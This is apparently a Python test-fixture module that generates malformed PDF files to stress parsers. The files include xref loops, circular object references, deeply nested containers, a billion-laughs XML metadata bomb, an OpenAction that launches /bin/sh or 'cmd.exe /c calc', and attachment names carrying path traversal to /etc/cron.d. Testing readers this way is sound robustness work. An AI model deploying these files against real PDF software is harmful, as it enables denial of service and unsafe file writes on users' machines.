"""PDF files whose objects lead in circles or claim to be more than they are."""

import zlib
from collections.abc import Mapping

from bench.attacks.attack import attack

_CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
TEXT = b"BT /F1 12 Tf 72 700 Td (Some honest text) Tj ET"


def pdf(objects: Mapping[int, bytes], trailer: bytes = b"") -> bytes:
    """A file of ``objects`` by number; 1 is its catalogue."""
    data = bytearray(b"%PDF-1.7\n")
    places: dict[int, int] = {}
    for number, content in objects.items():
        places[number] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(data)
    size = max(objects) + 1
    data += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        data += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    data += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)
    return bytes(data)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def page_of(
    more: Mapping[int, bytes] | None = None,
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    resources: bytes = b"",
    content: bytes | None = None,
    box: bytes = b"0 0 612 792",
    trailer: bytes = b"",
) -> bytes:
    """A file of one page with a line of text, and what makes it hostile; ``more`` objects number from 10."""
    objects = {
        1: _CATALOG % catalog,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> %s >> %s >>"
        % (box, resources, page),
        4: content if content is not None else stream(TEXT),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    return pdf({**objects, **(more or {})}, trailer)


@attack("xref-loop.pdf")
def xref_loop() -> bytes:
    """A table of places whose predecessor is itself."""
    data = page_of()
    start = data.index(b"xref\n0")
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % start, 1)


@attack("xref-size-2-billion.pdf")
def xref_size() -> bytes:
    """A table of two billion places."""
    return page_of().replace(b"/Size 6", b"/Size 2147483647").replace(b"xref\n0 6", b"xref\n0 2147483647")


@attack("tree-that-doubles.pdf")
def doubling_tree() -> bytes:
    """Thirty levels of page nodes that each name the next one ten times."""
    objects = {1: _CATALOG % b""}
    for level in range(2, 32):
        objects[level] = b"<< /Type /Pages /Count 1000000000 /Kids [%s] >>" % (b"%d 0 R " % (level + 1) * 10)
    objects[32] = b"<< /Type /Page /Parent 31 0 R /MediaBox [0 0 100 100] >>"
    return pdf(objects)


@attack("count-2-billion.pdf", b"2147483647")
@attack("count-negative.pdf", b"-1")
@attack("count-real.pdf", b"1e10")
def wrong_count(count: bytes) -> bytes:
    """A page tree that claims another number of pages than it has."""
    return page_of().replace(b"/Count 1 ", b"/Count %s " % count)


@attack("page-100000-times.pdf", quick=False)
def same_page() -> bytes:
    """One page that is listed a hundred thousand times."""
    kids = b"<< /Type /Pages /Kids [%s] /Count 100000 >>" % (b"3 0 R " * 100_000)
    return page_of().replace(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", kids)


@attack("object-streams-in-a-circle.pdf")
def object_circle() -> bytes:
    """Object streams that extend each other and hold each other."""
    packed = zlib.compress(b"11 0 10 3 << >> << >>")
    entries = b"/Type /ObjStm /N 2 /First 10 /Filter /FlateDecode /Extends %d 0 R"
    return page_of({10: stream(packed, entries % 11), 11: stream(packed, entries % 10)}, page=b"/Annots 10 0 R")


@attack("reference-to-itself.pdf")
def self_reference() -> bytes:
    """Objects that are nothing but a reference to themselves or to each other."""
    return page_of(
        {10: b"10 0 R", 11: b"12 0 R", 12: b"11 0 R", 13: b"<< /Length 13 0 R >>\nstream\nx\nendstream"},
        page=b"/Annots 10 0 R /Rotate 11 0 R /UserUnit 12 0 R /B 13 0 R",
        catalog=b"/Outlines 10 0 R /AcroForm 11 0 R /Names 12 0 R /Metadata 13 0 R /PageLabels 10 0 R",
        trailer=b"/Info 11 0 R",
    )


@attack("deep-array.pdf", b"[", b"]", 100_000)
@attack("deep-dictionary.pdf", b"<< /A ", b" >>", 100_000, quick=False)
@attack("just-deep-array.pdf", b"[", b"]", 400)
def deep_object(before: bytes, after: bytes, depth: int) -> bytes:
    """Containers in containers."""
    value = before * depth + b"1" + after * depth
    return page_of(
        {10: value}, page=b"/Annots 10 0 R", catalog=b"/AcroForm 10 0 R /Outlines 10 0 R", trailer=b"/Info 10 0 R"
    )


@attack("encrypted-oddly.pdf", b"/Filter /Standard /V 5 /R 99 /O (x) /U (y) /P -1")
@attack("encrypted-by-nobody.pdf", b"/Filter /Nobody /V -7 /R 0")
@attack("encrypted-short-keys.pdf", b"/Filter /Standard /V 2 /R 3 /Length 999999 /O () /U () /P 4294967296")
@attack("encrypted-in-a-circle.pdf", b"/Filter /Standard /V 4 /R 4 /CF 10 0 R /StmF /X /O 10 0 R /U 10 0 R /P 10 0 R")
def odd_encryption(dictionary: bytes) -> bytes:
    """A dictionary of encryption that no rule knows."""
    return page_of({10: b"<< %s >>" % dictionary}, trailer=b"/Encrypt 10 0 R /ID [<00> <00>]")


@attack("outline-in-a-circle.pdf")
def outline_circle() -> bytes:
    """Bookmarks that follow each other for ever, and one that is its own child."""
    return page_of(
        {
            10: b"<< /Type /Outlines /First 11 0 R /Last 12 0 R /Count 99999999 >>",
            11: b"<< /Title (one) /Next 12 0 R /Parent 10 0 R /First 11 0 R /Dest [3 0 R /Fit] >>",
            12: b"<< /Title (two) /Next 11 0 R /Parent 10 0 R /First 10 0 R >>",
        },
        catalog=b"/Outlines 10 0 R",
    )


@attack("deep-outline.pdf")
def deep_outline() -> bytes:
    """Five thousand bookmarks inside each other."""
    chain = {n: b"<< /Title (t) /First %d 0 R /Parent %d 0 R >>" % (n + 1, n - 1) for n in range(11, 5_011)}
    return page_of({10: b"<< /First 11 0 R >>", **chain, 5_011: b"<< /Title (last) >>"}, catalog=b"/Outlines 10 0 R")


@attack("form-in-a-circle.pdf")
def form_circle() -> bytes:
    """Form fields that are their own children, and a tree of names likewise."""
    return page_of(
        {
            10: b"<< /Fields [11 0 R] >>",
            11: b"<< /T (a) /FT /Tx /V (value) /Kids [12 0 R 11 0 R] /Parent 12 0 R >>",
            12: b"<< /T (b) /FT /Tx /V 11 0 R /Kids [11 0 R 12 0 R] /Parent 11 0 R >>",
            13: b"<< /EmbeddedFiles 14 0 R /Dests 14 0 R >>",
            14: b"<< /Kids [14 0 R 14 0 R] /Names [(a) 14 0 R (b)] >>",
            15: b"<< /Nums [0 15 0 R] /Kids [15 0 R] >>",
        },
        catalog=b"/AcroForm 10 0 R /Names 13 0 R /PageLabels 15 0 R",
    )


@attack("actions.pdf")
def actions() -> bytes:
    """Scripts, programs and addresses that are to be started when it is opened."""
    script = b"<< /S /JavaScript /JS (app.launchURL('http://127.0.0.1:9/');) >>"
    launch = b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> /Next 11 0 R >>"
    return page_of(
        {10: script, 11: launch, 12: b"<< /S /URI /URI (http://127.0.0.1:9/) >>"},
        catalog=b"/OpenAction 11 0 R /AA << /WC 10 0 R /O 12 0 R >> /Names << /JavaScript << /Names [(a) 10 0 R] >> >>",
        page=b"/AA << /O 11 0 R /C 12 0 R >>",
    )


@attack("attachment-names.pdf")
def attachment_names() -> bytes:
    """Attached files whose names would lead elsewhere."""
    names = (b"../../../../tmp/out", b"/etc/cron.d/out", b"C:\\\\out", b"", b"n" * 5000, b"a\\000b\\nc", b"..")
    objects = {
        20 + n: b"<< /Type /Filespec /F (%s) /UF (%s) /EF << /F 10 0 R >> >>" % (each, each)
        for n, each in enumerate(names)
    }
    listed = b" ".join(b"(k%d) %d 0 R" % (n, 20 + n) for n in range(len(names)))
    return page_of(
        {10: stream(b"attached", b"/Type /EmbeddedFile"), **objects},
        catalog=b"/Names << /EmbeddedFiles << /Names [%s] >> >>" % listed,
    )


@attack("metadata-laughs.pdf")
def metadata_laughs() -> bytes:
    """Entities of entities in its XML metadata."""
    rows = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 12))
    xml = b'<!DOCTYPE x [<!ENTITY l0 "lol">%s]><x:xmpmeta xmlns:x="adobe:ns:meta/">&l11;</x:xmpmeta>' % rows
    return page_of({10: stream(xml, b"/Type /Metadata /Subtype /XML")}, catalog=b"/Metadata 10 0 R")


@attack("huge-info.pdf", quick=False)
def huge_info() -> bytes:
    """Properties without end, and dates that are none."""
    many = b" ".join(b"/K%d (v)" % n for n in range(20_000))
    info = b"<< /Title (%s) /CreationDate (D:99999999999999Z99'99) /ModDate 7 /Author [1 2] %s >>" % (
        b"t" * 1_000_000,
        many,
    )
    return page_of({10: info}, trailer=b"/Info 10 0 R")
